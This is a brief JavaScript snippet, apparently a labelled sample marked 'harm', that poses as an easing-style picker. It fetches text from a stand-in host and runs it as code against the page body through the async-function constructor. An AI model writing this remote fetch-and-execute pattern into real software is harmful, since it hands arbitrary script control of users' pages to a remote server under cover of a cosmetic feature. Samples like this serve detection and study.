void (async () => {
  const Runner = (async () => {}).constructor;
  const names = ["ease", "bounce", "elastic"];
  const pick = prompt("Which easing? " + names.join(", "), names[0]);
  if (!names.includes(pick)) return;
  const text = await (await fetch("https://easing.example.org/" + pick)).text();
  const run = new Runner("root", text);
  await run(document.body); //! harm
})();
